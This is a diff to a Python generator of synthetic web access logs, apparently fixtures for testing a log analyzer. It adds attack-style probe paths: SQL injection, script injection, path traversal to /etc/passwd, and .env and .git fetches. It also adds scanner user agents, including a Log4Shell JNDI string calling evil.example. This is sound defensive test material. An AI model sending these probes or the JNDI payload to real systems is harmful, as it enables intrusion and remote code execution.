@@ -17,6 +17,12 @@ PATHS = (
     "/api/search?email=u%d@example.com", "/files/2026/01/%d", "/ids/%d,%d",
 )  # fmt: skip
 STATUSES = (200, 200, 200, 200, 204, 301, 302, 304, 400, 401, 403, 404, 404, 405, 429, 500, 503)
+PROBES = (
+    "/.env", "/%d/.git/config", "/wp-login.php", "/search?q=1'+or+%d=1--", "/search?q=%3Cscript%3E",
+    "/a/../%d/etc/passwd",
+    "/api/users/7?user_id=%d&user_id=8", "/api/users/*", "/api/items/%d?id[]=7", "/hidden/%d", "/backup-%d.zip",
+)  # fmt: skip
+SCANNERS = ("sqlmap/1.7", "Nikto/2.5", "${jndi:ldap://evil.example/a}")
 JUNK = (b"", b"not a log line", b"\xff\xfe\x00", b"# comment", b'192.0.2.1 - - [broken] "GET / HTTP/1.1" 200 1')
 
 
@@ -37,6 +43,8 @@ KINDS = (
     "recover",
     "roam",
     "owned",
+    "probe",
+    "verbs",
     "junk",
 )
 
@@ -95,6 +103,12 @@ def _line_of(kind: str, step: int, first: int, client: str, agent: str, user: st
             return line(0, other, f"/api/me?token=secret{first}", agent=agent, user=f"u{dice.randrange(9)}")
         case "owned":
             return line(0, client, f"/api/files/{dice.randrange(60)}", agent=agent, user=f"u{dice.randrange(5)}")
+        case "probe":
+            path = dice.choice(PROBES).replace("%d", str(step))
+            return line(0, client, path, dice.choice((200, 403, 404, 404, 500)), agent=dice.choice((agent, *SCANNERS)))
+        case "verbs":
+            method = dice.choice(("DELETE", "PUT", "TRACE", "PATCH"))
+            return line(0, client, f"/api/items/{first + step}", dice.choice((200, 403, 405, 500)), method=method)
         case _:
             return dice.choice(JUNK)
 
